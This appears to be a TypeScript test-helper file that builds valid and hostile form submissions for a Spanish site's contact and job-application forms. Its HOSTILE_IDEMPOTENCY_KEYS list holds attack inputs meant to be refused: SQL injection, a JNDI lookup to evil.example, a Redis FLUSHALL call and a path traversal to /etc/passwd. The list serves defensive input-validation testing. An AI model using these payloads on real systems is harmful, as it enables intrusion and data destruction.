/**
 * Building blocks of form submissions: a valid contact request or job application for a marker,
 * and the wire request that posts fields and files from the site's own origin.
 */
import { createHash } from "node:crypto";
import type { WireRequest } from "./httpClient";
import { fieldParts, multipartBody, multipartType, type Part } from "./multipart";
import { SMALL_PDF } from "./sampleFiles";
import { CONTACT_REQUEST_EXAMPLE } from "@/forms/contact/contactExample";

export type Fields = [string, string][];

/** A unique, lowercase e-mail address for the input with this marker. */
export const addressFor = (marker: string) => `${marker}@example.org`;

/** The fields of a contact request the site must accept, marked so its e-mails can be found. */
export function validContactFields(marker: string, requesterType = "particular"): Fields {
  return [
    ...Object.entries({
      ...CONTACT_REQUEST_EXAMPLE,
      family_name: "García Pérez",
      email: addressFor(marker),
      zipcode: "28001",
      message: `Consulta de prueba ${marker}.\r\nSegunda línea.`,
      requester_type: requesterType,
    }),
    ["website", ""],
  ];
}

/** The fields of a spontaneous job application the site must accept (the CV goes apart). */
export function validApplicationFields(marker: string): Fields {
  return [
    ["given_name", "Luis"],
    ["family_name", "Martín"],
    ["email", addressFor(marker)],
    ["phone_number", "600 000 000"],
    ["message", `Candidatura de prueba ${marker}.`],
    ["website", ""],
  ];
}

/** The fields with one replaced (or removed with `undefined`), in the same order. */
export function withField(fields: Fields, name: string, value: string | undefined): Fields {
  const found = fields.some(([key]) => key === name);
  const replaced = fields.flatMap(([key, current]): Fields =>
    key === name ? (value === undefined ? [] : [[key, value]]) : [[key, current]],
  );
  return found || value === undefined ? replaced : [...replaced, [name, value]];
}

/** A CV part (a small valid PDF unless told otherwise). */
export const cvPart = (
  filename = "curriculum.pdf",
  content: Buffer = SMALL_PDF,
  contentType = "application/pdf",
): Part => ({ name: "cv", filename, content, contentType });

/** An attachment part of the contact form. */
export const attachmentPart = (filename: string, content: Buffer, contentType = "application/octet-stream"): Part => ({
  name: "attachments",
  filename,
  content,
  contentType,
});

/** A multipart POST from the site's origin. */
export function multipartPost(
  path: string,
  origin: string,
  parts: Part[],
  extra: { boundary?: string; close?: boolean; headers?: Record<string, string> } = {},
): WireRequest {
  return {
    method: "POST",
    path,
    headers: { Origin: origin, "Content-Type": multipartType(extra.boundary), ...extra.headers },
    body: multipartBody(parts, extra),
  };
}

/** A form of text fields (plus files) posted as multipart from the site's origin. */
export const formPost = (path: string, origin: string, fields: Fields, files: Part[] = []) =>
  multipartPost(path, origin, [...fieldParts(fields), ...files]);

/** A JSON POST (any body text) from the site's origin. */
export function jsonPost(
  path: string,
  origin: string,
  body: string | Buffer,
  contentType = "application/json",
): WireRequest {
  return {
    method: "POST",
    path,
    headers: { Origin: origin, "Content-Type": contentType },
    body: Buffer.isBuffer(body) ? body : Buffer.from(body, "utf8"),
  };
}

/** A well-formed idempotency key of its own for the input with this marker (a v4 UUID's shape). */
export function idempotencyKeyFor(marker: string): string {
  const hex = createHash("sha256").update(marker).digest("hex");
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
}

/**
 * Idempotency-Key values the forms must refuse with 400 before reading the body (issue 19): not a
 * UUID, padded, several, overlong, or text aimed at the key store (Redis patterns, Lua, paths).
 * Only what an HTTP client can put in a header (no CR, LF or NUL; surrounding spaces are trimmed
 * by the server, so a padded valid key is a valid key).
 */
export const HOSTILE_IDEMPOTENCY_KEYS: readonly (string | string[])[] = [
  "",
  " ",
  "x",
  "*",
  "brezo:es:forms:*",
  "' OR 1=1 --",
  "${jndi:ldap://evil.example/a}",
  "redis.call('FLUSHALL')",
  "../../etc/passwd",
  "{0f8fad5b-d9cb-469f-a165-70867728950e}",
  "0f8fad5bd9cb469fa16570867728950e",
  "0f8fad5b-d9cb-469f-a165-70867728950e,0f8fad5b-d9cb-469f-a165-70867728950f",
  ["0f8fad5b-d9cb-469f-a165-70867728950e", "0f8fad5b-d9cb-469f-a165-70867728950f"],
  "0f8fad5b-d9cb-469f-a165-70867728950\u00e9",
  "k".repeat(8_000),
];

/** A short label for a header value in a test's name. */
export const keyLabel = (key: string | string[]) =>
  Array.isArray(key)
    ? `${key.length} headers`
    : JSON.stringify(key.length > 40 ? `${key.slice(0, 20)}…(${key.length})` : key);
